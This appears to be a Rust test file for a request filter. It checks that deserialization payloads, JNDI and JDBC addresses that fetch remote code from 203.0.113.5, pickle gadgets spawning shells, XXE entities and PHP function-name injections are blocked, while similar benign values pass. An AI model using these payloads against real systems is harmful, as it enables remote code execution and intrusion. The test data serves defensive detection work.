//! Serialized objects, addresses that make a server load them, and code of interpreters, beside data that looks alike.

use super::{get, is_refused, passes};

fn json(body: &str) -> String {
    let length = body.len();
    format!(
        "POST /a HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/json\r\nContent-Length: {length}\r\n\r\n{body}"
    )
}

#[test]
fn objects_of_dotnet() {
    for value in [
        "AAEAAAD/////AQAAAAAAAAAEAQAAAEVTeXN0ZW0",
        "/wEykwgAAQAAAP////8BAAAAAAAAAAwCAAAAWk1pY3Jv",
        "0001000000ffffffff010000000000000006010000",
        "System.Configuration.Install.AssemblyInstaller, System.Configuration.Install",
        "<a t:Type=\"System.IdentityModel.Tokens.SessionSecurityToken\"/>",
        "<q:ProcessStartInfo FileName=\"calc\"/>",
        "<a xmlns:q=\"clr-namespace:System.Diagnostics;assembly=system\"/>",
        "<%@ Register TagPrefix='q' Namespace='System.Web.UI' Assembly='System.Web' %>",
        "<%@ Import Namespace=\"System.Diagnostics\" %>",
        "executeglobal request(\"q\")",
        "Server.CreateObject(\"WScript.Shell\")",
    ] {
        is_refused(&get(value));
    }
    is_refused(&json("{\"a\":{\"__type\":\"System.IO.FileInfo, System.IO.FileSystem\",\"fileName\":\"q\"}}"));
    is_refused(&json("{\"__type\":\"System.Diagnostics.Process\"}"));
    for value in [
        "/wEPDwUKLTY3ODI1MDQ5OWRk",
        "AAAAGGZ0eXBpc29tAAAAAGlzb20",
        "   at System.Diagnostics.Process.Start(ProcessStartInfo startInfo)",
        "System.IO.IOException: The process cannot access the file",
        "System.Diagnostics.Process",
        "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" %>",
        "xmlns:sys=\"clr-namespace:System;assembly=mscorlib\"",
    ] {
        passes(&get(value));
    }
    passes(&json("{\"__type\":\"Contoso.Shop.Order, Contoso.Shop\",\"id\":3}"));
}

#[test]
fn objects_and_code_of_python_and_lua() {
    for value in [
        "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJs",
        "gANjcG9zaXgKc3lzdGVtCnEAWAIAAABscw==",
        "cposix\nsystem\n(S'ls'\ntR.",
        "(S'ls'\nios\nsystem\n.",
        "csubprocess\nPopen\n(S'ls'\ntR.",
        "__import__('pty').spawn('sh')",
        "import subprocess;subprocess.run(['ls'])",
        "[q for q in ().__class__.__base__.__subclasses__()]",
        "exec(zlib.decompress(q))",
        "io.popen(ngx.var.arg_q)",
        "os.execute 'ls'",
        "package.loadlib('/tmp/q.so','q')",
    ] {
        is_refused(&get(value));
    }
    is_refused(&json("{\"py/object\":\"q.Q\",\"py/reduce\":[{\"py/type\":\"subprocess.Popen\"}]}"));
    for value in [
        "gAAAAABhx7QpVm0",
        "cos\nsin\ntan\n",
        "import os; print(os.path.join('a', 'b'))",
        "return self.__class__.__name__",
        "from datetime import datetime",
        "local t = os.date('*t')",
        "How do I read the output of os.execute('ls') in my script?",
    ] {
        passes(&get(value));
    }
    passes(&json("{\"py/object\":\"shop.models.Cart\",\"items\":[]}"));
}

#[test]
fn addresses_and_descriptions_of_java_objects() {
    for value in [
        "rmi://203.0.113.5:1099/q",
        "ldap://203.0.113.5:1389/Basic/q",
        "corbaname:iiop:q.example#q",
        "service:jmx:rmi:///jndi/ldap://q.example/q",
        "jdbc:h2:mem:q;INIT=RUNSCRIPT FROM 'http://203.0.113.5/q'",
        "jdbc:mysql://q/q?autoDeserialize=true",
        "jdbc:postgresql://q/q?socketFactory=a&socketFactoryArg=http://203.0.113.5/q",
        "create alias q as 'void q() {}'",
        "q.LdapLoginModule required userProvider=\"ldap://q/q\";",
        "<wddxPacket><header/><data><struct type='xcom.q.Qx'/></data></wddxPacket>",
        "importClass(Packages.java.io.File)",
        "def q = new ProcessBuilder('ls').start()",
        "@GrabResolver(name='q', root='http://203.0.113.5/')",
        "$$BCEL$$$l$8b$I$A$A$A",
        "$4:constructor:constructor",
        "<xsl:value-of select=\"php:function('passthru','ls')\"/>",
        "<!DOCTYPE q SYSTEM \"http://203.0.113.5/q.dtd\"><q/>",
        "<!DOCTYPE q [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;&a;\">]><q>&b;</q>",
    ] {
        is_refused(&get(value));
    }
    for value in [
        "ldap://ldap.corp.example:389",
        "ldap://ldap.corp.example/dc=corp,dc=example",
        "jdbc:postgresql://db.internal:5432/shop?sslmode=require",
        "jdbc:h2:mem:testdb;DB_CLOSE_DELAY=-1",
        "org.apache.kafka.common.security.plain.PlainLoginModule required username=\"a\";",
        "$3:amount",
        "<!DOCTYPE plist SYSTEM \"file://localhost/System/Library/DTDs/PropertyList.dtd\">",
        "<xsl:value-of select=\"document('codes.xml')//code\"/>",
    ] {
        passes(&get(value));
    }
}

#[test]
fn names_of_functions_that_are_called() {
    let query = |query: &str| format!("GET /a?{query} HTTP/1.1\r\nHost: shop.example\r\n\r\n");
    for attack in [
        "filter[]=passthru&method=q",
        "filter%5B0%5D=shell_exec",
        "_method=__construct",
        "function=call_user_func_array&vars[0]=phpinfo",
        "callback=proc_open",
        "mail%5B%23post_render%5D%5B%5D=exec",
        "a[%23lazy_builder][0]=q",
    ] {
        is_refused(&query(attack));
    }
    for benign in [
        "filter[]=price&filter[]=in_stock",
        "_method=PUT",
        "callback=renderChart",
        "function=sum",
        "q=__construct",
        "tag=%23post",
        "filter=system",
    ] {
        passes(&query(benign));
    }
}
